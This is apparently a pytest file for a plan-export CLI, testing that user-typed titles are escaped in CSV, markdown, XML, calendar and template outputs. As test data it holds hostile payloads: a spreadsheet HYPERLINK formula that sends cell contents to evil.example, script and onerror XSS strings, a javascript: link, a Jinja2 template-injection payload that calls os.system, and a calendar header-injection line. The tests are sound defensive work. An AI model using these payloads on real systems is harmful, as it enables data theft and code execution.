"""Whatever people write in a plan stays text in every output: never a spreadsheet formula,
never markup a browser runs, never a broken XML file or calendar line; and a team's own
protocol template can show the document but never run anything."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from coplan.cli import cli
from coplan.escape import markdown_inline, one_line, spreadsheet_cell, xml_text

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "minds-discharge.toml"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def _hostile_plan(tmp_path: Path) -> Path:
    """The MINDS example with formulas and markup in titles people type."""
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace('title = "Hearing what matters about leaving hospital"',
                        f"title = '{FORMULA}'", 1)
    text = re.sub(r'(\[\[stage\]\]\s*\n(?:.*\n)*?title = )"([^"]*)"',
                  lambda m: f"{m.group(1)}'@SUM(1+1) {SCRIPT} [x](javascript:alert(3)) | cell'",
                  text, count=1)
    plan = tmp_path / "plan.toml"
    plan.write_text(text, encoding="utf-8")
    assert CliRunner().invoke(cli, ["validate", str(plan)]).exit_code == 0
    return plan


def _run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code in (0, 1), result.output
    return result.output


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("command", [["export", "csv"], ["schedule", "--format", "csv"]])
def test_a_spreadsheet_never_reads_a_cell_as_a_formula(tmp_path: Path,
                                                       command: list[str]) -> None:
    plan = _hostile_plan(tmp_path)
    cells = _cells(_run(*command, str(plan)))
    assert any("HYPERLINK" in c for c in cells) or any("SUM" in c for c in cells)
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            assert re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), f"a formula in the CSV: {cell!r}"


def test_the_review_in_markdown_shows_markup_as_text(tmp_path: Path) -> None:
    plan = _hostile_plan(tmp_path)
    text = _run("check", str(plan), "--format", "markdown")
    assert "alert(1)" in text, "the title is in the report"
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert "<script" not in html and "<img" not in html
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html), "no link to a script"
    # The title's '|' did not add a column to the table it is in.
    rows = [line for line in text.splitlines() if "alert(1)" in line and line.startswith("|")]
    assert rows
    for row in rows:
        columns = 6 if "`" in row else 5  # the depth table has "Why this rung" too
        assert len(re.findall(r"(?<!\\)\|", row)) == columns + 1, row


@pytest.mark.parametrize("command", [["check", "--format", "junit"],
                                     ["export", "msproject"]])
def test_xml_outputs_are_well_formed(tmp_path: Path, command: list[str]) -> None:
    plan = _hostile_plan(tmp_path)
    ET.fromstring(_run(*command, str(plan)).encode("utf-8"))


def test_the_calendar_keeps_one_line_properties_on_one_line(tmp_path: Path) -> None:
    plan = _hostile_plan(tmp_path)
    text = _run("export", "ics", str(plan), "--stamp", "2027-01-01T00:00:00Z")
    from icalendar import Calendar

    cal = Calendar.from_ical(text)
    assert "\n" not in str(cal["X-WR-CALNAME"]) and "\r" not in str(cal["X-WR-CALNAME"])


def test_a_template_cannot_reach_python(tmp_path: Path) -> None:
    plan = _hostile_plan(tmp_path)
    folder = tmp_path / "mine"
    folder.mkdir()
    marker = tmp_path / "ran"
    (folder / "protocol.md.j2").write_text(
        "{{ ''.__class__.__mro__[1].__subclasses__() }}"
        "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}\n",
        encoding="utf-8")
    result = CliRunner().invoke(cli, ["export", "protocol", str(plan), "--format", "md",
                                      "--template", str(folder), "-o",
                                      str(tmp_path / "out.md")])
    assert result.exit_code == 2, result.output
    assert "templates may not do" in result.output
    assert "Traceback" not in result.output
    assert not marker.exists()
    assert not (tmp_path / "out.md").exists()


def test_a_template_still_shows_the_document(tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "protocol.md.j2").write_text(
        "# {{ doc.title }}\n{% for s in sections %}- {{ s.title }}\n{% endfor %}",
        encoding="utf-8")
    text = _run("export", "protocol", str(EXAMPLE), "--format", "md", "--template",
                str(folder))
    assert text.startswith("# ") and "\n- " in text


# -- the escaping functions themselves --------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+A1", "-x", "@SUM(A1)", "\tx", "\r=1", "\n=1"])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25", "plain", "", 12, None])
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_markdown_inline_escapes_what_makes_markup() -> None:
    assert markdown_inline("a <b> & [c](d) | e\nf") == r"a &lt;b&gt; &amp; \[c\](d) \| e f"
    assert markdown_inline("Co-production *matters*") == "Co-production *matters*"


def test_one_line_and_xml_text() -> None:
    assert one_line("Title\r\nX-EVIL:1") == "Title X-EVIL:1"
    assert xml_text("a\x00b\x1bc\td\ne") == "abc\td\ne"
    ET.fromstring(f"<a>{xml_text(chr(1) + 'x' + chr(0xFFFE))}</a>")


def test_huge_hostile_text_takes_time_in_proportion() -> None:
    """Text shaped to make a careless pattern take time in the square of its length (runs
    of spaces, of word characters with no '@', of digits) goes through every text function
    at once; a quadratic pattern would take hours here instead of a moment."""
    from coplan.planfile import parse_plan
    from coplan.privacy import redact

    plan = parse_plan('[project]\ntitle = "x"\nstart = 2027-01-04\n\n'
                      '[[person]]\nid = "p1"\nname = "Amara Kone"\n')
    for text in (" " * 2_000_000 + "x", "a." * 1_000_000, "0" * 2_000_000,
                 "[" * 2_000_000, "+4" * 1_000_000):
        assert markdown_inline(text)
        assert redact(text, plan)
        assert one_line(text) is not None
        assert xml_text(text) is not None


@pytest.mark.parametrize("command", [["export", "csv"], ["schedule", "--format", "csv"],
                                     ["budget", "--format", "csv"]])
def test_csv_for_excel_starts_with_a_byte_order_mark(tmp_path: Path,
                                                     command: list[str]) -> None:
    """Excel reads a CSV file without a byte-order mark in the computer's old code page
    ("ZoÃ«â€™s cafÃ© Â£25"); with --bom it reads UTF-8.  Without --bom nothing changes."""
    text = EXAMPLE.read_text(encoding="utf-8")
    words = "Zoë’s café £25"
    text = text.replace('title = "Hearing what matters about leaving hospital"',
                        f'title = "{words}"', 1)
    plan = tmp_path / "plan.toml"
    plan.write_text(text, encoding="utf-8")
    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
    _run(*command, str(plan), "-o", str(plain))
    _run(*command, str(plan), "--bom", "-o", str(marked))
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    rows = list(csv.reader(io.StringIO(marked.read_text(encoding="utf-8-sig"))))
    assert rows == list(csv.reader(io.StringIO(plain.read_text(encoding="utf-8"))))
    if command[0] != "budget":  # the budget names stages by title only where it costs them
        assert any(words in cell for row in rows for cell in row)
    # To standard output as well (a pipe into a file Excel opens).
    assert _run(*command, str(plan), "--bom", "-o", "-").startswith("\ufeff")
